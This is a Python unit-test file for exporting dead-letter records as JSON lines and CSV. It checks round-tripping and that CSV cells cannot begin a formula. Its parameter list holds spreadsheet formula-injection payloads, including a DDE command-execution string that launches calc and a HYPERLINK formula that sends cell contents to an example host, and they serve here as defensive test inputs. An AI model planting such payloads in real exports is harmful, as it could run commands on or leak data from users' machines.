"""Dead letters as JSON lines and as CSV."""

import csv
import io
import json
from collections.abc import Iterator
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from mapreduce_operator.api import Cause, LetterState, Reason
from mapreduce_operator.core.letter_export import COLUMNS, csv_rows, json_line, letter_in
from mapreduce_operator.core.letters import Letter, encode_letter, moment
from mapreduce_operator.core.plan import canonical
from tests.unit.core import strategies

T0 = 1_767_225_600.0
"""2026-01-01T00:00:00Z."""


def letter_of(item: Any = None, **changes: Any) -> Letter:
    letter = Letter(
        id="GPL-3",
        key="abc",
        position=7,
        payload=msgspec.Raw(canonical(item)),
        cause=Cause.ATTEMPTS_EXHAUSTED,
        reason=Reason.ERROR,
        exit_code=3,
        message="no such file",
        signature_id="5f1c",
        signature="no such file",
        first_attempt_at=moment(T0),
        last_attempt_at=moment(T0 + 1.5),
        attempts=3,
        node="node-1",
        redrives={1: "mend"},
    )
    return msgspec.structs.replace(letter, **changes)


def rows_of(*letters: Letter) -> list[dict[str, str]]:
    text = "".join(csv_rows((letter, LetterState.OPEN) for letter in letters))
    return list(csv.DictReader(io.StringIO(text, newline="")))


texts = st.text(st.characters(codec="utf-8")) | st.sampled_from(strategies.HOSTILE_TEXTS)


# ----------------------------------------------------------------------------------------------------------- JSON lines


def test_a_line_is_the_body_with_the_state() -> None:
    letter = letter_of({"n": 5})

    line = json_line(letter, LetterState.RESOLVED)

    assert json.loads(line) == json.loads(encode_letter(letter)) | {"state": "Resolved"}


@given(texts, strategies.json_values)
def test_every_letter_is_one_line_whatever_stands_in_it(text: str, item: Any) -> None:
    line, rest, nothing = json_line(letter_of(item, id=text, message=text), LetterState.OPEN).partition(b"\n")

    assert (rest, nothing) == (b"\n", b"")
    told = json.loads(line)
    assert (told.get("message", ""), told["payload"]) == (text, item)


@given(texts, strategies.json_values)
def test_a_line_is_read_back_also_by_way_of_its_json_value(text: str, item: Any) -> None:
    letter = letter_of(item, id=text, message=text)
    value = msgspec.json.decode(json_line(letter, LetterState.CLAIMED))

    found, state = letter_in(msgspec.json.encode(value))

    assert state is LetterState.CLAIMED
    assert msgspec.structs.asdict(found) == msgspec.structs.asdict(letter) | {"state": state}


# ------------------------------------------------------------------------------------------------------------------ CSV


def test_a_row_says_in_short_what_the_letter_does() -> None:
    assert list(csv_rows([(letter_of({"n": 5}), LetterState.OPEN)])) == [
        (
            '"id","state","cause","reason","exitCode","message","signature","signatureText","node","attempts",'
            '"interruptions","redrives","firstAttempt","lastAttempt","item"\r\n'
        ),
        (
            '"GPL-3","Open","AttemptsExhausted","Error",3,"no such file","5f1c","no such file","node-1",3,0,1,'
            '"2026-01-01T00:00:00Z","2026-01-01T00:00:01.500000Z","{""n"":5}"\r\n'
        ),
    ]


def test_an_exit_code_that_does_not_exist_is_empty() -> None:
    assert rows_of(letter_of(exit_code=None))[0]["exitCode"] == ""


def test_no_letters_are_a_header() -> None:
    assert len(list(csv_rows([]))) == 1


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://example.com?x="&A1,"click")',
        "+1+1",
        "-1+1",
        "-",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\x00=1+1",
        "\tharmless",
        "\rharmless",
        "\nharmless",
        " =1+1",
        "\u00a0=1+1",
        "\ufeff=1+1",
        "\u200b=1+1",
        '"=1+1"',
        "'=1+1",
        '" \t=1+1',
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(1)",
    ],
)
def test_no_cell_begins_like_a_formula(text: str) -> None:
    (row,) = rows_of(letter_of(text, id=text, message=text, signature=text, node=text))

    for name in ("id", "message", "signatureText", "node"):
        assert row[name] == f"'{text}"
    assert row["item"][0] not in "=+-@\t\r\n"


@pytest.mark.parametrize("text", ["a=b", "a-b", "../x", "", "1 - 1", "[-1]", "größe", "x@example.com", '{"a":-1}'])
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert rows_of(letter_of(id=text))[0]["id"] == text


def test_a_payload_that_is_a_negative_number_is_a_text_and_numbers_are_numbers() -> None:
    (_, row) = csv_rows([(letter_of(-5, exit_code=255, attempts=12), LetterState.OPEN)])

    assert row.endswith(',"\'-5"\r\n')
    assert ",255," in row
    assert ",12,0,1," in row


def test_no_text_can_begin_another_cell_or_row() -> None:
    hostile = 'x",=1+1\r\n=2+2;\t"=3'

    (row,) = rows_of(letter_of({"a": hostile}, message=hostile))

    assert row["message"] == hostile
    assert json.loads(row["item"]) == {"a": hostile}


@given(texts, texts, strategies.json_values)
def test_whatever_stands_in_a_letter_is_read_back_but_for_the_apostrophe(name: str, message: str, item: Any) -> None:
    letter = letter_of(item, id=name, message=message)

    first, second = rows_of(letter, letter)

    assert first == second
    assert set(first) == set(COLUMNS)
    for column, text in (("id", name), ("message", message), ("item", canonical(item).decode())):
        assert first[column] in (text, f"'{text}")
        assert not first[column].startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\0"))


def test_letters_are_exported_one_by_one() -> None:
    asked = 0

    def stream() -> Iterator[tuple[Letter, LetterState]]:
        nonlocal asked
        while True:
            asked += 1
            yield letter_of(), LetterState.OPEN

    rows = csv_rows(stream())
    for _ in range(5):
        next(rows)

    assert asked <= 5
